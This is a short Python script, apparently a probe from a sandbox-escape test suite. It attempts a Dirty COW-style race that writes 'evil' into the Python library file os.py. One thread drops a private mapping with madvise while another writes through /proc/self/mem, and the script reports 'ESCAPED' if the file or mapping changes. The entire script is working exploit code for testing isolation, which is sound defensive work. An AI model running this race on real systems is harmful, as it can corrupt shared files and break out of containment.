# Tries to write into the file below a private copy of its page, by dropping the copy while it is written.
# Family: memory
import ctypes, mmap, os, threading, time

path = os.__file__
before = open(path, "rb").read(64)
libc = ctypes.CDLL(None, use_errno=True)
file = os.open(path, os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
at = libc.mmap(None, 4096, 1, 2, file, 0)
until = time.monotonic() + 0.5


def drop():
    while time.monotonic() < until:
        libc.madvise(ctypes.c_void_p(at), 4096, 4)


def write():
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
    except OSError:
        return
    print("ESCAPED: own memory is open for writing")
    while time.monotonic() < until:
        os.pwrite(memory, b"evil", at)


threads = [threading.Thread(target=each) for each in (drop, write)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
writable = libc.mmap(None, 4096, 3, 1, file, 0)
if writable not in (None, ctypes.c_void_p(-1).value):
    print("ESCAPED: a library's page is writable for all")
if open(path, "rb").read(64) != before:
    print("ESCAPED: the file was changed")
